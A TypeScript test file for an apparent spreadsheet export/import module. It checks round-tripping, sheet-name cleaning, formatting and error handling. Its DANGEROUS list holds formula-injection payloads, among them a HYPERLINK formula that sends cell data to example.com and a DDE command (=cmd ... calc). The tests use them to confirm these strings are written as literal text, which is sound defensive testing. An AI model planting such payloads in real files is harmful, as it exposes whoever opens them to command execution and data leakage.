import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { inflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { cleanSheetNames, readXlsxRows, SpreadsheetError, toXlsx } from './xlsx.ts';

/** The files in a .zip (an .xlsx is one), read from its central directory. */
function unzip(buffer: Buffer): Map<string, string> {
  let end = buffer.length - 22;
  while (end >= 0 && buffer.readUInt32LE(end) !== 0x06054b50) end--;
  assert.ok(end >= 0, 'end of central directory not found');
  const count = buffer.readUInt16LE(end + 10);
  let at = buffer.readUInt32LE(end + 16);
  const files = new Map<string, string>();
  for (let i = 0; i < count; i++) {
    assert.equal(buffer.readUInt32LE(at), 0x02014b50);
    const method = buffer.readUInt16LE(at + 10);
    const size = buffer.readUInt32LE(at + 20);
    const nameLength = buffer.readUInt16LE(at + 28);
    const extraLength = buffer.readUInt16LE(at + 30);
    const commentLength = buffer.readUInt16LE(at + 32);
    const local = buffer.readUInt32LE(at + 42);
    const name = buffer.toString('utf8', at + 46, at + 46 + nameLength);
    const start = local + 30 + buffer.readUInt16LE(local + 26) + buffer.readUInt16LE(local + 28);
    const data = buffer.subarray(start, start + size);
    files.set(name, (method === 8 ? inflateRawSync(data) : data).toString('utf8'));
    at += 46 + nameLength + extraLength + commentLength;
  }
  return files;
}

async function load(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

function sheetXml(files: Map<string, string>): string[] {
  return [...files]
    .filter(([name]) => /^xl\/worksheets\/[^/]+\.xml$/.test(name))
    .map(([, xml]) => xml);
}

const FORMULA_ELEMENT = /<f[\s>/]/;

const DANGEROUS = [
  '=HYPERLINK("http://example.com/?q="&A1,"Click")',
  '+1',
  '-2+3',
  '@SUM(1)',
  '=1+1',
  "\t=cmd|' /C calc'!A0",
  '=',
];

describe('toXlsx and readXlsxRows', () => {
  it('reads back what it wrote, as text', async () => {
    const headers = ['Name', 'Score', 'Notes'];
    const rows = [
      ['Ada Lovelace', 3.25, 'Line one\nline two'],
      ['Brontë, Émilie 😀', 0, null],
      [null, undefined, 'only the last'],
      ['x'.repeat(200), -12, '  spaced  '],
      ['"quoted" & <tagged>', 1e-7, '0042'],
    ];
    const rowsBack = await readXlsxRows(await toXlsx([{ name: 'People', headers, rows }]));
    assert.deepEqual(rowsBack, [
      headers,
      ['Ada Lovelace', '3.25', 'Line one\nline two'],
      ['Brontë, Émilie 😀', '0', ''],
      ['', '', 'only the last'],
      ['x'.repeat(200), '-12', '  spaced  '],
      ['"quoted" & <tagged>', '1e-7', '0042'],
    ]);
  });

  it('never writes a formula: text that looks like one stays literal text', async () => {
    const buffer = await toXlsx([
      { name: 'Data', title: '=TITLE()', headers: ['=A1', '+B'], rows: DANGEROUS.map((v) => [v]) },
    ]);
    const sheets = sheetXml(unzip(buffer));
    assert.equal(sheets.length, 1);
    for (const xml of sheets) {
      assert.doesNotMatch(xml, FORMULA_ELEMENT, 'no <f> element in the sheet');
      assert.doesNotMatch(xml, /t="(str|inlineStr)"/);
    }
    const rows = await readXlsxRows(buffer);
    assert.deepEqual(rows, [['=TITLE()', ''], ['=A1', '+B'], ...DANGEROUS.map((v) => [v, ''])]);
    const workbook = await load(buffer);
    const worksheet = workbook.worksheets[0];
    assert.ok(worksheet);
    worksheet.eachRow((row) => {
      row.eachCell((cell) => assert.equal(typeof cell.value, 'string'));
    });
  });

  it('would notice a formula (the check above is not vacuous)', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('F').getCell('A1').value = { formula: 'SUM(1,2)', result: 3 };
    const [xml] = sheetXml(unzip(Buffer.from(await workbook.xlsx.writeBuffer())));
    assert.match(xml ?? '', FORMULA_ELEMENT);
  });

  it('stores numbers as numbers and leaves null, undefined, NaN and Infinity empty', async () => {
    const buffer = await toXlsx([
      {
        name: 'N',
        headers: ['a', 'b', 'c', 'd', 'e'],
        rows: [
          [1, 2.5, null, undefined, NaN],
          [-3, Infinity, '4'],
        ],
      },
    ]);
    const worksheet = (await load(buffer)).worksheets[0];
    assert.ok(worksheet);
    assert.equal(worksheet.getCell('A2').value, 1);
    assert.equal(worksheet.getCell('B2').value, 2.5);
    assert.equal(worksheet.getCell('A3').value, -3);
    assert.equal(worksheet.getCell('C3').value, '4', 'text stays text');
    for (const address of ['C2', 'D2', 'E2', 'B3']) {
      assert.equal(worksheet.getCell(address).value, null, address);
    }
    const [xml] = sheetXml(unzip(buffer));
    assert.match(xml ?? '', /<c r="B2"><v>2.5<\/v><\/c>/);
    assert.doesNotMatch(xml ?? '', /NaN|Infinity/);
    assert.deepEqual(await readXlsxRows(buffer), [
      ['a', 'b', 'c', 'd', 'e'],
      ['1', '2.5', '', '', ''],
      ['-3', '', '4', '', ''],
    ]);
  });

  it('writes one sheet per entry with valid, unique names', async () => {
    const names = [
      'Scores [draft]',
      'a/b:c*d?e\\f',
      'A very long name for a sheet that Excel would refuse',
      'Data',
      'data',
      '',
      "'quoted'",
      'History',
      'Tab\tand\nnew line',
    ];
    const cleaned = cleanSheetNames(names);
    assert.deepEqual(cleaned, [
      'Scores draft',
      'a b c d e f',
      'A very long name for a sheet th',
      'Data',
      'data (2)',
      'Sheet 6',
      'quoted',
      'History (2)',
      'Tab and new line',
    ]);
    for (const name of cleaned) {
      assert.ok(name.length <= 31, name);
      assert.doesNotMatch(name, /[[\]:*?/\\]/);
    }
    assert.deepEqual(cleanSheetNames(['x'.repeat(40), 'x'.repeat(35), 'X'.repeat(31)]), [
      'x'.repeat(31),
      `${'x'.repeat(27)} (2)`,
      `${'X'.repeat(27)} (3)`,
    ]);
    assert.deepEqual(cleanSheetNames([`${'a'.repeat(30)}😀`]), ['a'.repeat(30)], 'no half emoji');

    const buffer = await toXlsx(
      names.map((name, i) => ({ name, headers: ['Sheet'], rows: [[i]] })),
    );
    const workbook = await load(buffer);
    assert.deepEqual(
      workbook.worksheets.map((w) => w.name),
      cleaned,
    );
    for (let i = 0; i < names.length; i++) {
      assert.deepEqual(await readXlsxRows(buffer, { sheet: i }), [['Sheet'], [String(i)]]);
    }
  });

  it('has a bold, frozen header row, an optional title, widths and the workbook creator', async () => {
    const buffer = await toXlsx([
      {
        name: 'Plain',
        headers: ['Id', 'Description'],
        rows: [
          [1, 'y'.repeat(30)],
          [2, 'z'.repeat(500)],
        ],
      },
      { name: 'Titled', title: 'Scores by sector', headers: ['Sector'], rows: [['Health']] },
    ]);
    const workbook = await load(buffer);
    assert.equal(workbook.creator, "One Children's Workforce");
    assert.match(
      unzip(buffer).get('docProps/core.xml') ?? '',
      /<dc:creator>One Children&apos;s Workforce</,
    );

    const [plain, titled] = workbook.worksheets;
    assert.ok(plain && titled);
    assert.equal(plain.getCell('A1').font.bold, true);
    assert.equal(plain.getCell('B1').font.bold, true);
    // exceljs types font as always present; an unstyled cell has none.
    const bodyFont = plain.getCell('A2').font as Partial<ExcelJS.Font> | undefined;
    assert.notEqual(bodyFont?.bold, true);
    assert.equal(plain.views[0]?.state, 'frozen');
    assert.equal((plain.views[0] as { ySplit?: number }).ySplit, 1);
    const idWidth = plain.getColumn(1).width ?? 0;
    const descriptionWidth = plain.getColumn(2).width ?? 0;
    assert.ok(idWidth >= 8 && idWidth < 15, `id width ${idWidth}`);
    assert.equal(descriptionWidth, 60, 'long text is capped');

    assert.equal(titled.getCell('A1').value, 'Scores by sector');
    assert.equal(titled.getCell('A2').value, 'Sector');
    assert.equal(titled.getCell('A2').font.bold, true);
    assert.equal((titled.views[0] as { ySplit?: number }).ySplit, 2);
    assert.deepEqual(await readXlsxRows(buffer, { sheet: 1 }), [
      ['Scores by sector'],
      ['Sector'],
      ['Health'],
    ]);
  });

  it('cuts text longer than an Excel cell can hold', async () => {
    const rows = await readXlsxRows(
      await toXlsx([{ name: 'Long', headers: ['t'], rows: [['a'.repeat(40_000)]] }]),
    );
    assert.equal(rows[1]?.[0]?.length, 32_767);
  });

  it('refuses to make a workbook with no sheets', async () => {
    await assert.rejects(toXlsx([]));
  });
});

describe('readXlsxRows on workbooks made elsewhere', () => {
  async function workbookWith(fill: (workbook: ExcelJS.Workbook) => void): Promise<Buffer> {
    const workbook = new ExcelJS.Workbook();
    fill(workbook);
    return Buffer.from(await workbook.xlsx.writeBuffer());
  }

  it('gives dates, formulas, rich text, links, booleans and errors as text', async () => {
    const buffer = await workbookWith((workbook) => {
      const sheet = workbook.addWorksheet('Mixed');
      sheet.getCell('A1').value = new Date(Date.UTC(2024, 0, 5));
      sheet.getCell('A1').numFmt = 'dd/mm/yyyy';
      sheet.getCell('B1').value = new Date(Date.UTC(2024, 1, 29, 9, 30));
      sheet.getCell('C1').value = { formula: 'SUM(1,2)', result: 3 };
      sheet.getCell('D1').value = { formula: 'CONCAT("a","b")', result: 'ab' };
      sheet.getCell('E1').value = { formula: 'NOW()' };
      sheet.getCell('F1').value = {
        richText: [{ text: 'Bold ', font: { bold: true } }, { text: 'and plain' }],
      };
      sheet.getCell('G1').value = { text: 'GOV.UK', hyperlink: 'https://www.gov.uk' };
      sheet.getCell('H1').value = true;
      sheet.getCell('I1').value = { error: '#N/A' };
      sheet.getCell('J1').value = { formula: '1/0', result: { error: '#DIV/0!' } };
      sheet.getCell('K1').value = 0.5;
      sheet.getCell('K1').numFmt = '0%';
    });
    assert.deepEqual(await readXlsxRows(buffer), [
      [
        '2024-01-05',
        '2024-02-29 09:30:00',
        '3',
        'ab',
        '',
        'Bold and plain',
        'GOV.UK',
        'TRUE',
        '#N/A',
        '#DIV/0!',
        '0.5',
      ],
    ]);
  });

  it('keeps row positions, pads rows, empties merged cells and drops blank rows at the end', async () => {
    const buffer = await workbookWith((workbook) => {
      const sheet = workbook.addWorksheet('Gaps');
      sheet.getCell('A2').value = 'Merged title';
      sheet.mergeCells('A2:C2'); // B2 and C2 read as empty, so they add no width
      sheet.getCell('B4').value = 'b4';
      sheet.getCell('A6').value = '';
      sheet.getCell('A7').font = { bold: true };
    });
    assert.deepEqual(await readXlsxRows(buffer), [
      ['', ''],
      ['Merged title', ''],
      ['', ''],
      ['', 'b4'],
    ]);
  });

  it('reads the sheet asked for, in tab order, and explains a missing one', async () => {
    const buffer = await workbookWith((workbook) => {
      workbook.addWorksheet('First').getCell('A1').value = 'first';
      workbook.addWorksheet('Second').getCell('A1').value = 'second';
    });
    assert.deepEqual(await readXlsxRows(buffer), [['first']]);
    assert.deepEqual(await readXlsxRows(buffer, { sheet: 1 }), [['second']]);
    await assert.rejects(readXlsxRows(buffer, { sheet: 2 }), (error: unknown) => {
      assert.ok(error instanceof SpreadsheetError);
      assert.equal(error.message, 'The workbook has 2 sheets, so there is no sheet 3');
      return true;
    });
    const empty = await workbookWith((workbook) => workbook.addWorksheet('Empty'));
    assert.deepEqual(await readXlsxRows(empty), []);
  });

  it('rejects a file that is not an .xlsx workbook with SpreadsheetError', async () => {
    const real = await toXlsx([{ name: 'A', headers: ['a'], rows: [] }]);
    const emptyZip = Buffer.alloc(22);
    emptyZip.writeUInt32LE(0x06054b50, 0);
    const notWorkbooks = [
      Buffer.from('name,score\r\nAda,3\r\n'),
      Buffer.alloc(0),
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]), // old .xls
      emptyZip,
      real.subarray(0, Math.floor(real.length / 2)),
    ];
    for (const buffer of notWorkbooks) {
      await assert.rejects(readXlsxRows(buffer), (error: unknown) => {
        assert.ok(error instanceof SpreadsheetError);
        assert.ok(error instanceof Error);
        assert.equal(error.name, 'SpreadsheetError');
        assert.equal(error.message, 'The file is not an Excel workbook (.xlsx)');
        assert.equal(error.statusCode, 400);
        return true;
      });
    }
  });
});
